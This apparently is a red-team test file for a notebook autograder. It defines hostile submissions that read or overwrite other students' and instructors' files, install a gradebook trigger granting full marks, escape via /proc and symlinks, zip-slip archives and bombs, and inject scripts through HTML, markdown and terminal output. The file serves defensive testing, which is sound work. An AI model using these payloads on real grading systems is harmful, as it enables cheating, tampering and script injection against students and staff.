"""Class c: other people's files, the course's files, and documents that attack whoever opens them."""

import io
import tarfile
import zipfile

from nbformat import NotebookNode, v4

from tests.redteam.corpus.base import Attack, Entry, Expected, Ground, Link, Make, Pipe, Submission, hostile, lazy_files
from tests.redteam.reference import NOTEBOOK, lazy_notebook, to_bytes


def _attack(number: str, title: str, make: Make, expected: Expected = "no_harm", *, on_page: bool = False) -> Attack:
    return Attack(number, title, "c", make, expected, on_page=on_page)


_READ_SOURCE = """
import glob
for name in glob.glob(COURSE + "/source/*/*") + glob.glob(COURSE + "/**/*.ipynb", recursive=True):
    if "attacker" not in name:
        try:
            print(open(name, errors="replace").read())
        except OSError as error:
            print(type(error).__name__)
"""
_READ_OTHER = 'print(open(COURSE + "/submitted/other/ps1/ps1.ipynb").read())'
_WRITE_GRADEBOOK = """
import sqlite3
database = sqlite3.connect(COURSE + "/gradebook.db", timeout=2)
database.execute(f"create table {MARK} (done text)")
database.commit()
harm("gradebook")
"""
_TRIGGER = """
import sqlite3
database = sqlite3.connect(COURSE + "/gradebook.db", timeout=2)
for event in ("insert on", "update of auto_score on"):
    database.execute(
        f"create trigger {MARK}{event[:6]} after {event} grade begin "
        "update grade set auto_score = 2, needs_manual_grade = 0 where id = new.id and auto_score is not 2; end"
    )
database.commit()
"""
_OVERWRITE_OTHER = """
place = COURSE + "/submitted/other/ps1/ps1.ipynb"
text = open(place).read()
open(place, "w").write(text.replace("return", "return None  #"))
harm("other")
"""
_WRITE_SOURCE = """
place = COURSE + "/source/ps1/ps1.ipynb"
text = open(place).read()
open(place, "w").write(text.replace("assert ", "assert True or "))
harm("source")
"""
_ROUNDABOUT = """
import glob
ways = ["/proc/self/cwd/../../..", "/proc/self/root" + COURSE, os.path.relpath(COURSE), COURSE + "/../course/."]
for pid in parents():
    ways += [f"/proc/{pid}/cwd", f"/proc/{pid}/root" + COURSE]
for way in ways:
    for name in glob.glob(way + "/submitted/other/*/*.ipynb") + glob.glob(way + "/source/*/*.ipynb"):
        try:
            print(open(name).read())
        except OSError:
            pass
try:
    folder = os.open(COURSE, os.O_PATH)
    print(open(os.open("submitted/other/ps1/ps1.ipynb", os.O_RDONLY, dir_fd=folder)).read())
except OSError:
    pass
"""
_LINKS_AT_RUN_TIME = """
for number, target in enumerate((COURSE + "/source/ps1/ps1.ipynb", COURSE + "/submitted/other/ps1/ps1.ipynb")):
    for make in (os.link, os.symlink):
        try:
            make(target, f"linked{number}{make.__name__}.ipynb")
        except OSError:
            continue
import glob
for name in glob.glob("linked*"):
    try:
        print(open(name).read())
    except OSError:
        pass
"""

_FILE_NAMES = """
from IPython.display import display, publish_display_data
names = {"filenames": {"image/png": f"../../../{MARK}.png", "image/svg+xml": f"/tmp/{MARK}.svg"}}
publish_display_data({"image/png": "AAAA"}, names)
publish_display_data({"image/svg+xml": "<svg/>", "text/plain": "x"}, names)
"""

# What would run or load in a browser. The mark makes each tag ours.
_HTML = """
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, display
script = f"<script>document.title='{MARK}'</script><img src=x onerror=alert('{MARK}')><iframe srcdoc='{MARK}'></iframe>"
for kind in (HTML, Markdown, Latex):
    display(kind(script))
display(Javascript(f"alert('{MARK}')"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\\"{MARK}\\")'><script>1</script></svg>"))
display(HTML(f"<a href='javascript:alert(1)' title='{MARK}'>x</a>"))
display(HTML(f"<form action='http://127.0.0.1:{PORT}/{MARK}'><input></form>"))
"""
_BUNDLES = """
from IPython.display import display, publish_display_data
evil = f"\\"><script>'{MARK}'</script>"
publish_display_data({"image/png": evil, "text/plain": evil}, {"image/png": {"width": evil, "height": evil}})
publish_display_data({"image/jpeg": "AAAA" + evil})
publish_display_data({"image/svg+xml": f"<svg onload=alert('{MARK}')>", "text/html": evil}, {"isolated": True})
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": evil, "version_major": 2}})
publish_display_data({"text/latex": f"\\\\\\\\href{{javascript:{MARK}}}{{x}} {evil}", "application/json": {"a": evil}})
publish_display_data({"text/html " + evil: evil, "text/x-" + MARK: evil})
"""
_TERMINAL = """
error = type(f"<img src=x onerror=alert('{MARK}')>", (Exception,), {"__module__": "builtins"})
print(f"\\x1b]8;;javascript:{MARK}\\x07x\\x1b]8;;\\x07 \\x1b[31m<script>'{MARK}'</script>\\x1b[0m")
print(f"\\x1b[999999;\\"><b title={MARK}>m")
print(f"<script>'{MARK}'</script>", file=sys.stderr)
raise error(f"<script>'{MARK}'</script>\\x1b[31m<svg onload='{MARK}'>")
"""
_FEEDBACK = """
from IPython.display import HTML, display
display(HTML(f"<div class='total' id='{MARK}'><h1>Score: 18.0 / 18.0</h1></div>"))
display(HTML(f"<style id='{MARK}'>.score{{display:none}}</style>"))
print(f"</pre></div><h2 id='{MARK}'>Score: 18 / 18</h2>")
"""

_MARKDOWN = """
# Score: 18 / 18 <a id='{mark}'></a>
<script>'{mark}'</script><style>body {{ display: none; content: '{mark}' }}</style>
<svg onload="alert('{mark}')"></svg><iframe src="http://127.0.0.1:{port}/{mark}"></iframe>
<details open ontoggle="alert('{mark}')">x</details>
<math><mtext></form><form><mglyph><style></math><img src onerror='{mark}'>
[click](javascript:alert('{mark}')) [x](JaVaScRiPt&colon;'{mark}') [y](data:text/html;base64,PHNjcmlwdD4x '{mark}')
![beacon](http://127.0.0.1:{port}/{mark}.png) <meta http-equiv=refresh content="0;url=http://127.0.0.1:{port}/{mark}">
$$\\href{{javascript:alert('{mark}')}}{{x}}$$ <base href='http://127.0.0.1:{port}/{mark}/'>
`<script>'{mark}'</script>` <noscript><p title="</noscript><img src=x onerror='{mark}'>">
"""


def _with_markdown(ground: Ground) -> Submission:
    notebook = lazy_notebook()
    text = _MARKDOWN.format(mark=ground.mark, port=ground.port)
    notebook.cells.insert(1, v4.new_markdown_cell(text, id="hello"))
    notebook.cells[-1]["source"] = text
    notebook.cells.append(v4.new_raw_cell(text, id="raw", metadata={"raw_mimetype": "text/html"}))
    notebook.metadata["title"] = f"</title><script>'{ground.mark}'</script>"
    return lazy_files(notebook)


def _with_attachment_names(notebook: NotebookNode) -> None:
    cell = notebook.cells[0]
    cell["attachments"] = {
        "../../../evil.png": {"image/png": "AAAA"},
        "/tmp/x": {"text/html": "<script>"},
        "none.png": {},
    }
    cell["source"] += "\n![x](attachment:../../../evil.png) ![y](attachment:none.png) ![z](attachment:missing.png)"


def _swollen(notebook: NotebookNode) -> None:
    text = "x" * 80 + "\n"
    notebook.cells.append(v4.new_code_cell("# " + "y" * (15 << 20), id="swollen"))
    notebook.cells[-1]["outputs"] = [v4.new_output("stream", text=text * 180_000)]


def _wrong_types(notebook: NotebookNode) -> None:
    odd: list[object] = [7, "text", ["list"], {"grade_id": {"a": 1}}, {"grade_id": ["x"], "points": "many"}, None]
    for number, value in enumerate(odd):
        cell = v4.new_code_cell("1", id=f"odd-{number}")
        cell["metadata"]["nbgrader"] = value
        notebook.cells.insert(number, cell)


def _deep(ground: Ground) -> Submission:
    return {f"{NOTEBOOK}.ipynb": b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b', "metadata": {}, "nbformat": 4}'}


def _not_json(ground: Ground) -> Submission:
    return {f"{NOTEBOOK}.ipynb": b"\x80\x04\x95this is no notebook"}


def _old_format(ground: Ground) -> Submission:
    old = b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": [], "language": "python"}]}],'
    return {f"{NOTEBOOK}.ipynb": old + b' "metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0}'}


def _odd_text(ground: Ground) -> Submission:
    notebook = lazy_notebook()
    notebook.cells[1]["source"] = "# \u202e\u2066 right to left \x00 \x1b[2J"
    text = to_bytes(notebook).replace(b"Problem set 1", b"\\ud800 lone \\udfff")
    return {
        f"{NOTEBOOK}.ipynb": text.replace(b'"nbformat": 4', b'"nbformat": 4, "nbformat": 4e0, "x": NaN, "y": 1e999')
    }


def _archives(ground: Ground) -> Submission:
    zipped, packed = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"../../{ground.mark}.txt", "out")
        archive.writestr("bomb.txt", b"\0" * (40 << 20))
    with tarfile.open(fileobj=packed, mode="w:gz") as tape:
        tape.addfile(tarfile.TarInfo(f"{ground.root}/tmp/{ground.mark}.txt"))
    return lazy_files() | {"ps1.zip": zipped.getvalue(), "attacker.tar.gz": packed.getvalue()}


def _links(ground: Ground) -> Submission:
    entries: dict[str, Entry] = {
        "notes.txt": Link(f"{ground.root}/course/source/ps1/ps1.ipynb"),
        "data.csv": Link(f"{ground.root}/course/submitted/other/ps1/ps1.ipynb"),
        "folder": Link(f"{ground.root}/course/source"),
    }
    last = "import glob\nfor name in ('notes.txt', 'data.csv', *glob.glob('folder/*/*')):\n    print(open(name).read())"
    return hostile(last=last)(ground) | entries


def _linked_notebook(ground: Ground) -> Submission:
    return {f"{NOTEBOOK}.ipynb": Link(f"{ground.root}/course/submitted/other/ps1/ps1.ipynb")}


def _pipes(ground: Ground) -> Submission:
    return lazy_files() | {"data.csv": Pipe(), "notes.txt": Link("/dev/zero"), "loop.csv": Link("loop.csv")}


def _piped_notebook(ground: Ground) -> Submission:
    return {f"{NOTEBOOK}.ipynb": Pipe()}


ATTACKS = (
    _attack("c01", "the instructor's source is read", hostile(_READ_SOURCE), "no_canary"),
    _attack("c02", "another student's submission is read", hostile(_READ_OTHER), "no_canary"),
    _attack("c03", "the gradebook is written", hostile(_WRITE_GRADEBOOK)),
    _attack("c04", "another student's submission is overwritten", hostile(_OVERWRITE_OTHER)),
    _attack("c05", "the instructor's source is overwritten", hostile(_WRITE_SOURCE)),
    _attack("c06", "links in the submission to the source and to another's work", _links, "no_canary"),
    _attack("c08", "scripts in rich outputs", hostile(_HTML), on_page=True),
    _attack("c09", "scripts in markdown, in a written answer and in a raw cell", _with_markdown, on_page=True),
    _attack(
        "c10", "attachments and output files named ../", hostile(_FILE_NAMES, edit=_with_attachment_names), on_page=True
    ),
    _attack("c12", "a notebook of 30 MB", hostile(edit=_swollen), "ends"),
    _attack("c13", "JSON nested 100,000 deep", _deep, "ends"),
    _attack("c15", "archives that unpack outside, and bombs", _archives),
    _attack("c16", "nbgrader's metadata of wrong types", hostile(edit=_wrong_types), "ends"),
    _attack("c40", "not JSON at all", _not_json, "ends"),
    _attack("c41", "a notebook of format 3", _old_format, "ends"),
    _attack("c42", "lone surrogates, NUL, right-to-left marks, double keys, NaN", _odd_text, "ends"),
    _attack("c43", "the notebook is a link to another student's", _linked_notebook, "points_of_lazy"),
    _attack("c44", "pipes, devices and looped links beside the notebook", _pipes, "ends"),
    _attack("c45", "the notebook is a pipe", _piped_notebook, "ends"),
    _attack(
        "c46",
        "the course reached through /proc, O_PATH and parents",
        hostile(_ROUNDABOUT, last=_ROUNDABOUT),
        "no_canary",
    ),
    _attack("c47", "links made while the cell runs", hostile(_LINKS_AT_RUN_TIME), "no_canary"),
    _attack("c48", "a trigger in the gradebook pays in full", hostile(_TRIGGER), "points_of_lazy"),
    _attack("c49", "images, widgets and MIME types that break out of attributes", hostile(_BUNDLES), on_page=True),
    _attack("c50", "terminal codes and error names with HTML", hostile(_TERMINAL), on_page=True),
    _attack("c51", "output that imitates the feedback", hostile(_FEEDBACK), on_page=True),
)
